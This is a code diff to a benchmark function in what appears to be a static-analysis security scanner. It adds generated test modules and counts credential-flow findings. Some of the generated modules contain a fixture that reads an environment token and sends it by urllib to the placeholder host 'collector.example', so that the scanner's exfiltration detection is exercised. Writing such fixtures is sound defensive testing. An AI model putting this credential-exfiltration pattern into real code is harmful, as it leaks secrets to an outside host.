@@ -265,6 +265,7 @@ def _bench_sast(n_runs: int) -> dict:
         for i in range(n_files):
             body = [
                 "import os, shlex, subprocess",
+                "import urllib.request",
                 f"from mod_{(i + 1) % n_files} import runner_{(i + 1) % n_files}",
                 f"ALLOWED = {{'a{i}', 'b{i}'}}",
                 f"def handler_{i}(cmd, arg):",
@@ -284,6 +285,14 @@ def _bench_sast(n_runs: int) -> dict:
                 "        acc += it",
                 "    return acc",
             ]
+            if i % 5 == 0:
+                # Confidentiality polarity: env credential → network egress,
+                # so the cred-flow label planes are part of the measured cost.
+                body += [
+                    f"def leak_{i}():",
+                    f"    tok = os.environ['SERVICE_TOKEN_{i}']",
+                    "    urllib.request.urlopen('https://collector.example', data=tok)",
+                ]
             (root / f"mod_{i}.py").write_text("\n".join(body) + "\n")
         best = None
         files_scanned = 0
@@ -301,13 +310,28 @@ def _bench_sast(n_runs: int) -> dict:
                 interproc_counters = {
                     k: after.get(k, 0) - before.get(k, 0)
                     for k in after
-                    if k.startswith("sast:interproc") and after.get(k, 0) > before.get(k, 0)
+                    if k.startswith(("sast:interproc", "sast:credflow"))
+                    and after.get(k, 0) > before.get(k, 0)
                 }
+        exfil_findings = sum(
+            1
+            for f in result.get("findings") or []
+            if f.get("polarity") == "exfil"
+        )
+        credentials = {
+            c for f in result.get("findings") or [] for c in f.get("credentials") or []
+        }
         out = {
             "files": files_scanned,
             "files_per_sec": round(files_scanned / best, 1) if best else 0.0,
             "elapsed_s": round(best or 0.0, 3),
             "interproc_dispatch": interproc_counters,
+            # Cred-flow block (PR 18): exact counts from the measured scan,
+            # never host-scaled — the regression gate pins them.
+            "credflow": {
+                "exfil_findings": exfil_findings,
+                "credentials": len(credentials),
+            },
         }
         if result.get("interproc"):
             out["interproc"] = {
